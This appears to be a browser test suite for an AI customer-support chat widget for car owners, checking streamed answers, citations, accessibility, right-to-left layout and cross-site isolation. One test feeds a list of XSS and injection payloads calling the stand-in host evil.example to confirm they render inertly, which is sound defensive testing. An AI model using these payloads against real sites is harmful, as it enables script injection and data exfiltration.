"""The customer page in a real browser."""

from __future__ import annotations

import http.server
import json
import re
import threading
from collections.abc import Iterator

import pytest

from tests.ui.browsing import NEEDS_CHROMIUM, Visit, browsing, serious_faults
from tests.ui.conftest import OTHER_PORT

pytestmark = NEEDS_CHROMIUM


@pytest.fixture(params=[("fr-FR", 390, "light"), ("en-GB", 1440, "dark")], ids=["french-phone-light", "english-desktop-dark"])
def settings(request: pytest.FixtureRequest) -> tuple[str, int, str]:
    return request.param


@pytest.fixture
def visit(address: str, settings: tuple[str, int, str]) -> Iterator[Visit]:
    locale, width, scheme = settings
    with browsing(locale=locale, viewport={"width": width, "height": 850}, color_scheme=scheme) as context:
        yield Visit(context.new_page(), address)


def test_a_question_gets_a_streamed_answer_whose_source_opens_the_passage(visit: Visit, settings: tuple[str, int, str]) -> None:
    french = settings[0].startswith("fr")
    question = (
        "D'où viennent les butées hydrauliques progressives ?" if french else "Where do progressive hydraulic cushions come from?"
    )

    visit.page.get_by_text("intelligence artificielle" if french else "artificial intelligence").first.wait_for()
    visit.ask(question)
    visit.log.get_by_text("rallye" if french else "rallying").first.wait_for()
    visit.log.locator("summary").first.click()
    link = visit.log.locator("details a").first
    link.wait_for()
    visit.page.goto(link.get_attribute("href"))

    assert visit.page.locator("section.cited").count() == 1
    assert visit.outside == []
    assert visit.violations == []


def test_choices_are_buttons_and_a_follow_up_goes_on(visit: Visit, settings: tuple[str, int, str]) -> None:
    french = settings[0].startswith("fr")

    visit.ask("Comment activer le régulateur de vitesse ?" if french else "How do I switch on cruise control?")
    visit.log.get_by_role("button", name="C5 Aircross (2018-2025)").first.click()
    visit.log.get_by_text(re.compile("CRUISE")).first.wait_for()
    steps = visit.log.locator("ol li").count()
    visit.ask("et pour le désactiver ?" if french else "and to switch it off?")

    assert steps >= 2
    visit.log.locator("> .it").nth(2).wait_for()
    assert "C5 Aircross" in visit.log.locator("> .it").nth(2).text_content()


PAYLOADS = [
    "![x](http://evil.example/b.png)",
    "<img src=http://evil.example/b.png onerror=alert(1)>",
    "<script src=http://evil.example/x.js></script>",
    "<iframe src=http://evil.example></iframe>",
    "<svg onload=fetch('http://evil.example')>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example><button>x</button></form>",
    "[click](javascript:fetch('http://evil.example'))",
    "<video src=http://evil.example/v.mp4 autoplay></video>",
    "<object data=http://evil.example></object>",
    "<embed src=http://evil.example>",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<a href=http://evil.example ping=http://evil.example>x</a>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<input type=image src=http://evil.example/i.png>",
    "<math><mi xlink:href=http://evil.example>",
    "{{constructor.constructor('fetch(`http://evil.example`)')()}}",
]


def _streaming(body: str):
    return lambda route: route.fulfill(content_type="text/event-stream", body=body)


def test_what_is_asked_or_answered_is_shown_as_text_and_fetches_nothing(visit: Visit) -> None:
    answer = {
        "decision": "answer",
        "text": "PAYLOAD [1]\n\n1. PAYLOAD\n2. x",
        "language": "en",
        "question_language": "en",
        "conversation_id": "c",
        "statements": [],
        "choices": ["PAYLOAD"],
        "suggestions": [],
        "vehicle": None,
        "rules": [],
        "citations": [
            {
                "n": 1,
                "document_id": "d",
                "chunk_id": "PAYLOAD",
                "title": "PAYLOAD",
                "section": "PAYLOAD",
                "language": "en",
                "url": None,
                "quote": "PAYLOAD",
                "as_of": 2020,
                "status": "fact",
                "sources": [{"label": "PAYLOAD", "year": 2020}],
            },
        ],
    }
    for payload in PAYLOADS:
        body = f"event: done\ndata: {json.dumps(answer).replace('PAYLOAD', json.dumps(payload)[1:-1])}\n\n"
        visit.page.unroute_all()
        visit.page.route("**/v1/chat", _streaming(body))
        visit.ask(payload)
        visit.log.locator(".you", has_text=payload[:20]).first.wait_for()
    visit.page.evaluate("fetch('/healthz').then((answer) => answer.text())")  # what a payload asks for is asked before this

    assert visit.log.locator("img, iframe, script, form, object, embed, video, svg, style, base, meta").count() == 0
    assert visit.log.locator('a[href*="evil.example/"], a[href^="javascript"]').count() == 0
    assert visit.outside == []


def test_a_lost_connection_keeps_the_question_and_can_be_retried(visit: Visit, settings: tuple[str, int, str]) -> None:
    french = settings[0].startswith("fr")
    question = "À quoi sert l'amortisseur ?" if french else "What does a damper do?"
    visit.page.route("**/v1/chat", lambda route: route.abort())
    visit.ask(question)
    retry = visit.log.get_by_role("button", name="Réessayer" if french else "Try again")
    retry.wait_for()

    assert visit.page.locator("citroen-assistant form textarea").input_value() == question
    visit.page.unroute_all()
    retry.click()
    visit.log.locator("summary").first.wait_for()


def test_a_conversation_stays_over_a_reload_in_this_tab_only(visit: Visit, address: str) -> None:
    visit.ask("What does a damper do?")
    visit.log.locator("summary").first.wait_for()
    visit.page.reload()
    visit.log.locator("summary").first.wait_for()
    other = visit.page.context.new_page()
    other.goto(address)
    other.locator("citroen-assistant form textarea").wait_for()

    assert other.locator("citroen-assistant .you").count() == 0


def test_an_answer_can_be_rated_with_a_reason_and_a_person_asked_for(visit: Visit, settings: tuple[str, int, str]) -> None:
    french = settings[0].startswith("fr")
    visit.ask("Je veux parler à un conseiller" if french else "I want to talk to a person")
    visit.log.get_by_role("button", name="Parler à une personne" if french else "Talk to a person").click()
    visit.log.get_by_role("button", name="Oui, transmettre" if french else "Yes, pass it on").click()
    visit.log.get_by_text("C'est transmis" if french else "It has been passed on").wait_for()
    visit.ask("À quoi sert l'amortisseur ?" if french else "What does a damper do?")
    visit.log.get_by_role("button", name="Réponse pas utile" if french else "Not helpful").last.click()
    visit.log.get_by_role("textbox").fill("trop court")
    visit.log.get_by_role("button", name="Envoyer l'avis" if french else "Send feedback").click()

    visit.log.get_by_text("Merci" if french else "Thank you").wait_for()


def test_the_keyboard_alone_is_enough(visit: Visit) -> None:
    visit.page.locator("citroen-assistant form textarea").focus()
    visit.page.keyboard.type("What does a damper do?")
    visit.page.keyboard.press("Enter")
    visit.log.locator("summary").first.wait_for()
    for _ in range(30):
        visit.page.keyboard.press("Shift+Tab")
        if visit.page.evaluate("document.querySelector('citroen-assistant').shadowRoot.activeElement?.tagName") == "SUMMARY":
            break
    visit.page.keyboard.press("Enter")

    assert visit.log.locator("details[open]").count() == 1


def test_no_page_has_a_serious_fault_of_accessibility(visit: Visit, address: str) -> None:
    visit.ask("What does a damper do?")
    visit.log.locator("summary").first.click()
    found = serious_faults(visit.page)
    for path in ("passages/phc-origin.fr.rally", "passages/gone.fr.page", "sign-in"):
        visit.page.goto(f"{address}/{path}")
        found += serious_faults(visit.page)

    assert found == []


def test_the_page_does_not_scroll_sideways(visit: Visit) -> None:
    visit.ask("À quoi servent les butées hydrauliques progressives ?")
    overflow = visit.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")

    assert overflow <= 0


CSS = "* { color: lime !important; font-size: 60px !important; display: inline !important; position: static !important }"

STYLE = '<link rel="stylesheet" href="/hostile.css">'


@pytest.fixture
def other_site(address: str) -> Iterator[str]:
    """Another site, with a strict policy and styles that would ruin anything outside a shadow DOM."""

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            css = self.path.endswith(".css")
            page = (
                f'<!doctype html><html {"dir=rtl" if self.path == "/rtl" else ""} lang="fr"><head><title>x</title>'
                f"{'' if self.path == '/rtl' else STYLE}</head>"
                "<body><h1>Un site</h1>"
                f'<script src="{address}/widget.js" data-market="FR" data-language="fr"></script></body></html>'
            )
            self.send_response(200)
            self.send_header("Content-Type", "text/css" if css else "text/html; charset=utf-8")
            policy = f"default-src 'self'; script-src {address}; connect-src {address}; style-src 'self'"
            self.send_header("Content-Security-Policy", policy)
            self.end_headers()
            self.wfile.write((CSS if css else page).encode())

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", OTHER_PORT), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{OTHER_PORT}"
    server.shutdown()
    server.server_close()


def test_the_widget_works_on_a_hostile_page_of_another_site(other_site: str) -> None:
    with browsing(viewport={"width": 1200, "height": 800}) as context:
        page = context.new_page()
        violations: list[str] = []
        page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)
        page.goto(other_site)
        page.locator("citroen-assistant .launch").click()
        page.locator("citroen-assistant form textarea").fill("À quoi sert l'amortisseur ?")
        page.keyboard.press("Enter")
        page.locator("citroen-assistant summary").first.wait_for()
        size = page.locator("citroen-assistant .ai").evaluate("element => getComputedStyle(element).fontSize")
        faults = serious_faults(page, "citroen-assistant")
        page.keyboard.press("Escape")
        closed = page.locator("citroen-assistant .launch").is_visible()

    assert violations == []
    assert size == "14px"
    assert faults == []
    assert closed


def test_a_site_that_is_not_on_the_list_gets_no_answer(other_site: str) -> None:
    with browsing() as context:
        page = context.new_page()
        page.goto(other_site.replace("127.0.0.1", "localhost"))
        page.locator("citroen-assistant .launch").click()
        page.locator("citroen-assistant form textarea").fill("À quoi sert l'amortisseur ?")
        page.keyboard.press("Enter")
        page.get_by_role("alert").wait_for()

        assert page.locator("citroen-assistant summary").count() == 0


def test_on_a_page_that_reads_from_right_to_left_everything_stays_in_its_place(other_site: str) -> None:
    with browsing(viewport={"width": 390, "height": 800}) as context:
        page = context.new_page()
        page.goto(f"{other_site}/rtl")
        launch = page.locator("citroen-assistant .launch")
        launch_left = launch.bounding_box()["x"]
        launch.click()
        page.locator("citroen-assistant form textarea").fill("ما فائدة ممتص الصدمات؟")
        page.keyboard.press("Enter")
        page.locator("citroen-assistant button[type=submit]").wait_for(state="visible")
        bubble = page.locator("citroen-assistant .you")
        direction = bubble.evaluate("element => getComputedStyle(element).direction")
        notice = page.locator("citroen-assistant .ai").evaluate("element => getComputedStyle(element).direction")
        box = page.locator("citroen-assistant .panel").bounding_box()

    assert launch_left < 100
    assert (direction, notice) == ("rtl", "ltr")
    assert (box["x"], box["width"]) == (0, 390)


def test_two_tabs_hold_two_conversations_that_do_not_mix(visit: Visit, address: str) -> None:
    other = Visit(visit.page.context.new_page(), address)
    for tab, car in ((visit, "C4 de 2021"), (other, "C3 de 2019"), (visit, "C4 de 2021"), (other, "C3 de 2019")):
        tab.ask(f"Comment activer le limiteur de vitesse sur ma {car} ?")

    for tab, foreign in ((visit, "C3 de 2019"), (other, "C4 de 2021")):
        assert tab.log.locator(".you").count() == 2
        assert foreign not in tab.log.text_content()


def test_nothing_moves_for_who_wants_no_motion(address: str) -> None:
    with browsing(reduced_motion="reduce") as context:
        visit = Visit(context.new_page(), address)
        visit.page.route("**/v1/chat", lambda _: None)
        visit.page.locator("citroen-assistant form textarea").fill("What does a damper do?")
        visit.page.keyboard.press("Enter")
        waiting = visit.log.locator(".wait")
        waiting.wait_for()

        assert waiting.evaluate("element => getComputedStyle(element, '::after').animationName") == "none"
        assert visit.log.evaluate("element => getComputedStyle(element).scrollBehavior") == "auto"


def test_what_was_told_before_the_connection_broke_stays_to_be_read(visit: Visit, settings: tuple[str, int, str]) -> None:
    told = 'event: start\ndata: {"conversation_id": "c"}\n\nevent: delta\ndata: {"text": "The damper slows the spring. [1]"}\n\n'
    visit.page.route("**/v1/chat", _streaming(told))
    visit.ask("What does a damper do?")
    visit.log.get_by_role("alert").wait_for()

    assert "The damper slows the spring." in visit.log.text_content()
    assert visit.page.locator("citroen-assistant form textarea").input_value() == "What does a damper do?"


def test_a_bad_rating_offers_a_person_and_keeps_the_answers_turn(visit: Visit, settings: tuple[str, int, str]) -> None:
    french = settings[0].startswith("fr")
    sent: list[dict[str, object]] = []
    visit.page.on("request", lambda request: sent.append(request.post_data_json) if "/v1/ratings" in request.url else None)
    visit.ask("What does a damper do?")
    visit.ask("And what is a spring for?")
    visit.log.get_by_role("button", name="Réponse pas utile" if french else "Not helpful").last.click()
    visit.log.get_by_role("button", name="Envoyer l'avis" if french else "Send feedback").click()
    visit.log.get_by_role("button", name="Parler à une personne" if french else "Talk to a person").click()
    visit.log.get_by_role("button", name="Oui, transmettre" if french else "Yes, pass it on").click()
    visit.log.get_by_text(re.compile("Référence à donner" if french else "Your reference")).wait_for()

    assert [(rating["turn"], rating["thumb"]) for rating in sent] == [(2, "down")]
